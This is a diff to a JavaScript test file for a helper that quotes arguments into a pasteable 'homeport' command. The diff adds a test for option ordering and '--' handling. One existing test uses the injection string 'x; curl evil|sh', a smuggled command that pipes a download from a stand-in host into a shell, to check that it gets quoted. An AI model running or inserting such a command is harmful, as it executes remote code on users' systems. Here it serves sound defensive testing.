@@ -31,4 +31,12 @@ describe('a word in a command for pasting', () => {
   test('what is shell syntax is quoted', () => {
     expect(homeportCommand('devices approve', 'x; curl evil|sh')).toBe("homeport devices approve 'x; curl evil|sh'")
   })
+
+  test('options go first, quoted, and those without a value are left out', () => {
+    const options = { config: '/etc/home port.yaml', 'data-dir': undefined }
+    expect(homeportCommand('restore', options, 'b.tar.gz')).toBe(
+      "homeport restore --config '/etc/home port.yaml' b.tar.gz",
+    )
+    expect(homeportCommand('restore', { config: 'c' }, '-b')).toBe('homeport restore --config c -- -b')
+  })
 })
